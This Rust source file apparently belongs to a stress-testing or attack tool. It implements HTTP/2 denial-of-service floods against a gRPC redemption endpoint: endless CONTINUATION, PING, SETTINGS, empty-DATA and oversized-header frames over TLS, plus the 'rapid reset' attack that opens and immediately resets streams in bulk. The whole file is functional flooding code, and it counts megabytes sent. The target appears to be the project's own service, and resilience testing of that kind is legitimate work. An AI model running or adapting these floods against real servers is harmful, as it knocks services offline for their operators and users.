//! Frames without end, as fast as the server takes them.

use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{
    Attack, Attacker,
    frames::{self, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, frame},
};

const REDEEM: &str = "/holdfast.v1.RedemptionService/Redeem";
/// How much is written at once.
const CHUNK: usize = 64 * 1024;
/// Calls that are begun and reset at once.
const RESETS: u32 = 100;

/// What is sent again and again: over two connections, of which one reads what is answered.
pub(super) async fn frames(attacker: &Arc<Attacker>) -> anyhow::Result<()> {
    let headers = frames::call(REDEEM, &attacker.args.token);
    let in_call = frame(HEADERS, END_HEADERS, 1, &headers);
    let (begins, again) = match attacker.args.attack {
        Attack::Continuation => {
            (frame(HEADERS, 0, 1, &headers), frame(CONTINUATION, 0, 1, &[0x83; 1000]))
        }
        Attack::Ping => (vec![], frame(PING, 0, 0, &[7; 8])),
        Attack::Settings => (vec![], frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        Attack::EmptyData => (in_call, frame(DATA, 0, 1, &[])),
        _ => (vec![], frames::large_headers(&headers)),
    };
    let begins = Arc::new([frames::begin(None), begins].concat());
    let again = Arc::new(again.repeat((CHUNK / again.len()).max(1)));
    let flood = move |attacker: Arc<Attacker>, number: usize| {
        flood(attacker, Arc::clone(&begins), Arc::clone(&again), number.is_multiple_of(2))
    };
    attacker.over_and_over(2, flood).await
}

async fn flood(
    attacker: Arc<Attacker>,
    begins: Arc<Vec<u8>>,
    again: Arc<Vec<u8>>,
    reads: bool,
) -> anyhow::Result<()> {
    let (mut from, mut to) = tokio::io::split(attacker.tls().await?);
    to.write_all(&begins).await?;
    let mut bytes = 0;
    let send = async {
        while to.write_all(&again).await.is_ok() {
            bytes += again.len() as u64;
            // In MB.
            if bytes >= 1_000_000 {
                attacker.count(bytes / 1_000_000);
                bytes %= 1_000_000;
            }
        }
    };
    let read = async {
        let mut bytes = vec![0; CHUNK];
        while reads && from.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
        if !reads {
            std::future::pending::<()>().await;
        }
    };
    tokio::select! { () = send => {}, () = read => {} }
    Ok(())
}

/// Calls that are reset as soon as they are begun.
pub(super) async fn rapid_reset(attacker: &Arc<Attacker>) -> anyhow::Result<()> {
    let headers = Arc::new(frames::call(REDEEM, &attacker.args.token));
    let resets = move |attacker: Arc<Attacker>, _| resets(attacker, Arc::clone(&headers));
    attacker.over_and_over(3, resets).await
}

async fn resets(attacker: Arc<Attacker>, headers: Arc<Vec<u8>>) -> anyhow::Result<()> {
    let (from, mut to) = tokio::io::split(attacker.tls().await?);
    to.write_all(&frames::begin(None)).await?;
    let send = async {
        let mut stream = 1;
        loop {
            let mut bytes = Vec::new();
            for _ in 0..RESETS {
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers));
                bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                stream += 2;
            }
            if to.write_all(&bytes).await.is_err() {
                return;
            }
            attacker.count(RESETS.into());
        }
    };
    tokio::select! { () = send => {}, () = super::until_closed(from) => {} }
    Ok(())
}
